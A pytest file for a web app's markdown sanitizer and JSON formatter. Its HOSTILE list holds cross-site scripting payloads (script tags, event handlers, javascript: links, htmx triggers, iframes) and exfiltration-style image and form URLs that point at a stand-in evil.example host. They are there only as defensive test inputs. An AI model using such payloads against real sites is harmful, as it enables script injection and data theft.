"""Rendered markdown can look like much and do nothing."""

from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest

from interactions.web import json_text, markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![picture](https://evil.example/leak.png?secret)",
    "![picture](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![picture](https://evil.example/a.png)](https://evil.example/)",
    "![a][b]\n\n[b]: https://evil.example/b.png",
    '<b hx-get="/logout" hx-trigger="load">x</b>',
    '<a href="#" data-hx-post="/x" style="position:fixed" class="head" id="main">x</a>',
    "<iframe src=//evil.example></iframe>",
    "<style>@import url(//evil.example)</style>",
    '```"onload="alert(1)\ncode\n```',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    '[x](https://a.example "onmouseover=alert(1)")',
    '<form action="https://evil.example"><input name="q"><button>x</button></form>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)",
]


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_only_harmless_elements_and_attributes_come_out(text: str) -> None:
    for tag, attributes in Seen(markdown.render(text)).elements:
        assert tag in markdown.TAGS
        assert attributes.keys() <= {"href", "rel", "start"}
        assert (attributes.get("href") or "https:").startswith(("http:", "https:", "mailto:"))


def test_the_usual_forms_are_rendered() -> None:
    text = "## Title\n\n**b** *it* `code` ~~old~~\nnext line\n\n1. one\n\n> quote\n\n|a|\n|-|\n|b|\n\n```py\nx\n```"
    tags = {tag for tag, _ in Seen(markdown.render(text)).elements}
    assert tags >= {"h3", "strong", "em", "code", "s", "br", "ol", "li", "blockquote", "table", "td", "pre"}


def test_headings_never_upset_the_outline_of_the_page() -> None:
    html = markdown.render("# a\n\n## b\n\n### c\n\n###### d")
    assert html.count("<h3>") == 2
    assert "<p><strong>c</strong></p>" in html
    assert "<p><strong>d</strong></p>" in html


def test_a_link_says_where_it_leads() -> None:
    html = markdown.render("[your bank](https://evil.example/login)")
    assert 'href="https://evil.example/login"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert "your bank (evil.example)" in html


def test_a_link_that_names_its_host_is_left_alone() -> None:
    assert "(docs.example)" not in markdown.render("<https://docs.example/a>")


def test_a_picture_from_elsewhere_becomes_words() -> None:
    html = markdown.render("See ![a chart](https://elsewhere.example/chart.png).")
    assert "[image: a chart – https://elsewhere.example/chart.png]" in html
    assert "<img" not in html


@pytest.mark.parametrize("text", ["You read charts carefully.", "€ 5, 20 % – fine (really)!", "a - b + c"])
def test_a_plain_sentence_needs_no_rendering(text: str) -> None:
    assert markdown.is_plain(text)
    assert markdown.render(text) == f"<p>{text}</p>\n"


@pytest.mark.parametrize(
    "text", ["- a", "1. a", "# a", "a **b**", "a\nb", "`x`", "    code", "<b>", "a & b", "+ x", "===", "a_b_"]
)
def test_anything_that_may_be_markup_is_not_called_plain(text: str) -> None:
    assert not markdown.is_plain(text)


def test_deeply_nested_markup_is_rendered_in_reasonable_time() -> None:
    assert markdown.render(">" * 5_000 + "x")
    assert markdown.render("[" * 5_000)
    assert markdown.render("*a **b " * 2_000)


@pytest.mark.parametrize(
    "text", ['{"a": 23.80, "b": [], "c": {}, "d": [1e400, 1E2, {"e": "x,]{\\"\\u00e9"}], "a": null}', "[]", "[1, [2]]"]
)
def test_json_is_indented_without_changing_a_character_of_its_values(text: str) -> None:
    indented = json_text.indented(text)
    assert indented is not None
    assert "".join(indented.split()) == "".join(text.split())


def test_indented_json_looks_as_python_would_write_it() -> None:
    value = {"a": [1, {"b": []}, "x"], "c": {}, "d": {"e": None}}
    assert json_text.indented(json.dumps(value)) == json.dumps(value, indent=2)


@pytest.mark.parametrize("text", ["{bad", "hello", "12", '"x"', "{} trailing", "[" * 100 + "]" * 100, ""])
def test_what_is_no_json_document_is_left_as_it_is(text: str) -> None:
    assert json_text.indented(text) is None


def test_a_string_that_nobody_reads_to_the_end_is_shortened_and_says_so() -> None:
    assert json_text.pretty({"data": "A" * 5_000}).endswith('… (5,000 characters)"\n}')
